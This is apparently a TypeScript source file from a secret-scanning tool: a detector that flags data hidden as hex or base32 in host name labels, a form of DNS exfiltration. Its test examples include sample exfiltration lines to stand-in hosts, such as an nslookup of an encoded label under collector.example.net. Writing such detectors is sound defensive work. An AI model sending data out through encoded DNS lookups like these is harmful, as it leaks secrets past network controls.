/**
 * Data hidden in the labels of a host name, which leaves with the question for its address even where the connection is refused:
 * `http://4a6f686e2044.6f65.example.com`. Hexadecimal or base32 (RFC 4648), in labels that together spell printable text.
 */
import { defineDetector } from '../../engine/detector.ts';
import { hexValue, isAlphanumeric, unitAt } from '../../read/characters.ts';

/** RFC 1035: names have 253 characters at most. */
const HOST_CHARS_MAX = 253;
const HOST =
  /(?:https?|wss?):\/\/([0-9A-Za-z-]+(?:\.[0-9A-Za-z-]+){2,32})|(?:nslookup|dig|host|ping) +([0-9A-Za-z-]+(?:\.[0-9A-Za-z-]+){2,32})/iy;
const LABEL_CHARS_MIN = 8;
/** By accident, so many bytes are printable once in twenty thousand times. */
const BYTES_MIN = 10;
const BASE32 = 'abcdefghijklmnopqrstuvwxyz234567';

export const encodedHost = defineDetector({
  id: 'encoded-host',
  entityType: 'encoded_data',
  entityClass: 'secret',
  severity: 'high',
  confidence: 0.85,
  description: 'Data encoded in the labels of a host name',
  trigger: {
    on: 'literal',
    literals: ['http://', 'https://', 'ws://', 'wss://', 'nslookup ', 'dig ', 'host ', 'ping '],
    fold: true,
  },
  find({ text }, at) {
    if (isAlphanumeric(unitAt(text, at - 1))) return undefined;
    HOST.lastIndex = 0;
    const [found, named, asked] = HOST.exec(text.slice(at, at + HOST_CHARS_MAX)) ?? [];
    const host = named ?? asked;
    if (found === undefined || host === undefined) return undefined;
    const labels = host.split('.').slice(0, -2);
    const spelt = labels.map(speltBy);
    const bytes = spelt.reduce((all, one) => all + one.length, 0);
    if (bytes < BYTES_MIN) return undefined;
    const start = at + found.length - host.length;
    const last = spelt.findLastIndex((one) => one.length > 0);
    return { start, end: start + labels.slice(0, last + 1).join('.').length };
  },
  examples: {
    true: [
      'https://4a6f686e446f65.53656372657431.exfil.example.com/ping',
      'nslookup jbswy3dpeb3w64tmmq.collector.example.net',
    ],
    false: [
      'https://3f8a1c9e04b7d625.builds.example.com/',
      'https://www.information-technology.example.com/',
      'ping 4a6f686e.example.com',
      'http://4a6f686e446f65.org',
      'xhttps://4a6f686e446f65.53656372657431.exfil.example.com',
    ],
  },
});

/** The printable text that the label spells; nothing where it spells none. */
function speltBy(label: string): string {
  // Words are base32, too.
  if (label.length < LABEL_CHARS_MIN || !/[0-9]/.test(label)) return '';
  for (const bytes of [bytesOfHex(label), bytesOfBase32(label)])
    if (bytes?.every((byte) => byte >= 32 && byte < 127) === true) return String.fromCharCode(...bytes);
  return '';
}

function bytesOfHex(label: string): number[] | undefined {
  const values = [...label].map((char) => hexValue(char.charCodeAt(0)));
  if (label.length % 2 !== 0 || values.some((value) => value < 0)) return undefined;
  return values.flatMap((high, index) => (index % 2 === 0 ? [high * 16 + (values[index + 1] as number)] : []));
}

function bytesOfBase32(label: string): number[] | undefined {
  const values = [...label.toLowerCase()].map((char) => BASE32.indexOf(char));
  if (values.some((value) => value < 0)) return undefined;
  const bytes: number[] = [];
  let held = 0;
  let bits = 0;
  for (const value of values) {
    held = ((held << 5) | value) & 0xfff;
    bits += 5;
    if (bits >= 8) {
      bits -= 8;
      bytes.push((held >> bits) & 255);
    }
  }
  return bytes;
}
